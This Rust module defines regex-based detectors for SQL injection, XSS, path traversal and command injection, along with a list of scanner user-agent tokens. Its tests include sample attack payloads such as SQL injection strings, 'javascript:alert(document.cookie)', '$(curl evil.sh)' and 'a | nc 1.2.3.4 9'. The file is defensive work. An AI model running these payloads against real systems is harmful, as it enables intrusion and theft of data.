//! Precompiled attack pattern families.
//!
//! Every pattern is case-insensitive and compiled once on first use. The
//! regex engine guarantees linear-time matching, so scanning cost is bounded
//! by input length.
//!
//! The families are heuristics. Tightening or loosening a pattern changes
//! which requests are rejected, so edits here are policy decisions and should
//! come with a test in this module.

use std::sync::LazyLock;

use regex::Regex;

use super::ThreatCategory;

const SQL_INJECTION: &[&str] = &[
    // ' OR 'a'='a   " and x like
    r#"(?i)['"]\s*(?:or|and)\s+['"]?\w+['"]?\s*(?:=|<|>|\blike\b)"#,
    // OR 1=1
    r"(?i)\b(?:or|and)\s+(\d+)\s*=\s*\d+\b",
    // admin'--   x' /*
    r#"(?i)['"]\s*(?:--|/\*|#\s*$)"#,
    r"(?i)\bunion\b(?:\s+(?:all|distinct))?\s+select\b",
    r"(?i)\bselect\s+(?:\*|count\s*\([^)]*\)|(?:distinct\s+)?[\w.]+(?:\s*,\s*[\w.]+)+)\s+from\b",
    r"(?i)\bfrom\s+(?:information_schema|pg_catalog|sqlite_master|mysql\.user|sys\.)",
    r"(?i)\binsert\s+into\s+[\w.`\[\]]+\s*(?:\(|values\b)",
    r"(?i)\b(?:drop|truncate|alter)\s+(?:table|database|schema)\b",
    r"(?i)\bdelete\s+from\s+[\w.`\[\]]+\s*(?:where\b|;|$)",
    r"(?i)\bupdate\s+[\w.`\[\]]+\s+set\s+[\w.]+\s*=",
    r"(?i);\s*(?:drop|delete|insert|update|shutdown|exec(?:ute)?)\b",
    r"(?i)\b(?:sleep|pg_sleep|benchmark)\s*\(\s*\d",
    r"(?i)\bwaitfor\s+delay\b",
    r"(?i)\bexec(?:ute)?\s+(?:xp|sp)_\w+",
];

const XSS: &[&str] = &[
    r"(?i)<\s*/?\s*script\b",
    r"(?i)<[^>]*\bon[a-z]{3,}\s*=",
    r"(?i)\b(?:javascript|vbscript|livescript)\s*:",
    r"(?i)<\s*(?:iframe|object|embed|applet|svg|meta|base)\b",
    r"(?i)style\s*=[^>]*expression\s*\(",
    r"(?i)data\s*:\s*text/html",
    r"(?i)\bdocument\s*\.\s*(?:cookie|write|location)\b",
];

const PATH_TRAVERSAL: &[&str] = &[
    r"\.\.[/\\]",
    r"[/\\]\.\.$",
    r"(?i)%2e%2e(?:%2f|%5c|/|\\)",
    r"(?i)\.\.%(?:2f|5c)",
    r"(?i)%252e%252e",
    r"(?i)%c0%ae",
    r"(?i)/etc/(?:passwd|shadow|hosts|group)\b",
    r"(?i)\bc:\\windows\\",
    r"(?i)\bboot\.ini\b",
    r"(?i)/proc/self/",
];

const COMMAND_INJECTION: &[&str] = &[
    r"(?i)(?:[;|`]|&&|\|\|)\s*(?:cat|ls|rm|wget|curl|bash|sh|zsh|nc|ncat|netcat|chmod|chown|whoami|uname|python[0-9.]*|perl|php|ping|nslookup|telnet|kill|id)\b",
    r"\$\([^)]*\)",
    r"\$\{[^}]*(?:IFS|PATH|HOME|SHELL)[^}]*\}",
    r"(?i)\b(?:cmd(?:\.exe)?\s*/[ck]|powershell(?:\.exe)?\s+-)",
    r"(?i)\b(?:/bin/(?:ba)?sh|/usr/bin/env)\b",
];

/// Known scanner and attack-tool user-agent tokens (lowercase).
pub const SUSPICIOUS_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "acunetix",
    "nessus",
    "w3af",
    "dirbuster",
    "gobuster",
    "wpscan",
    "zgrab",
    "havij",
    "openvas",
];

fn compile(sources: &[&str]) -> Vec<Regex> {
    sources.iter().filter_map(|s| Regex::new(s).ok()).collect()
}

static SQL_INJECTION_SET: LazyLock<Vec<Regex>> = LazyLock::new(|| compile(SQL_INJECTION));
static XSS_SET: LazyLock<Vec<Regex>> = LazyLock::new(|| compile(XSS));
static PATH_TRAVERSAL_SET: LazyLock<Vec<Regex>> = LazyLock::new(|| compile(PATH_TRAVERSAL));
static COMMAND_INJECTION_SET: LazyLock<Vec<Regex>> =
    LazyLock::new(|| compile(COMMAND_INJECTION));

/// Pattern families in evaluation order.
pub static FAMILIES: [(ThreatCategory, &LazyLock<Vec<Regex>>); 4] = [
    (ThreatCategory::SqlInjection, &SQL_INJECTION_SET),
    (ThreatCategory::Xss, &XSS_SET),
    (ThreatCategory::PathTraversal, &PATH_TRAVERSAL_SET),
    (ThreatCategory::CommandInjection, &COMMAND_INJECTION_SET),
];

/// First family matching `text`, if any.
pub fn classify(text: &str) -> Option<ThreatCategory> {
    FAMILIES
        .iter()
        .find(|(_, set)| set.iter().any(|re| re.is_match(text)))
        .map(|(category, _)| *category)
}

/// Paths are only checked for traversal.
pub fn is_traversal(text: &str) -> bool {
    PATH_TRAVERSAL_SET.iter().any(|re| re.is_match(text))
}

/// Returns the matching scanner token if the agent belongs to a known tool.
pub fn suspicious_agent(user_agent: &str) -> Option<&'static str> {
    let lowered = user_agent.to_ascii_lowercase();
    SUSPICIOUS_AGENTS
        .iter()
        .find(|token| lowered.contains(*token))
        .copied()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(SQL_INJECTION_SET.len(), SQL_INJECTION.len());
        assert_eq!(XSS_SET.len(), XSS.len());
        assert_eq!(PATH_TRAVERSAL_SET.len(), PATH_TRAVERSAL.len());
        assert_eq!(COMMAND_INJECTION_SET.len(), COMMAND_INJECTION.len());
    }

    #[test]
    fn test_sql_injection_samples() {
        for sample in [
            "' OR '1'='1",
            "admin' --",
            "1 OR 1=1",
            "x' UNION SELECT password FROM users--",
            "1; DROP TABLE users",
            "SELECT * FROM accounts",
            "'; WAITFOR DELAY '0:0:5'--",
            "1 AND SLEEP(5)",
        ] {
            assert_eq!(
                classify(sample),
                Some(ThreatCategory::SqlInjection),
                "missed: {sample}"
            );
        }
    }

    #[test]
    fn test_xss_samples() {
        for sample in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)",
            "<iframe src=//evil>",
            "<svg/onload=alert(1)>",
        ] {
            assert_eq!(classify(sample), Some(ThreatCategory::Xss), "missed: {sample}");
        }
    }

    #[test]
    fn test_traversal_samples() {
        for sample in ["../../etc/passwd", "..\\..\\boot.ini", "%2e%2e%2fsecret", "..%2fconfig"] {
            assert_eq!(
                classify(sample),
                Some(ThreatCategory::PathTraversal),
                "missed: {sample}"
            );
        }
    }

    #[test]
    fn test_command_injection_samples() {
        for sample in ["file.txt; cat /etc/shadow", "x && whoami", "$(curl evil.sh)", "a | nc 1.2.3.4 9"] {
            assert!(
                matches!(
                    classify(sample),
                    Some(ThreatCategory::CommandInjection | ThreatCategory::PathTraversal)
                ),
                "missed: {sample}"
            );
        }
    }

    #[test]
    fn test_plain_prose_is_clean() {
        for sample in [
            "Please select your preferred delivery option",
            "Select the items you want from the menu",
            "I'd like to update my profile picture",
            "Tom and Jerry are friends",
            "The meeting is at 10:30; bring notes",
            "Contact us at support@example.com",
            "It's a 5-star product, really!",
            "onboarding checklist",
            "Use the drop-down to pick a table",
            "a.b.c version 1.2.3",
        ] {
            assert_eq!(classify(sample), None, "false positive: {sample}");
        }
    }

    #[test]
    fn test_suspicious_agent_tokens() {
        assert_eq!(suspicious_agent("sqlmap/1.7.2#stable"), Some("sqlmap"));
        assert_eq!(suspicious_agent("Mozilla/5.0 (compatible; Nikto/2.1.6)"), Some("nikto"));
        assert_eq!(
            suspicious_agent("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),
            None
        );
    }
}
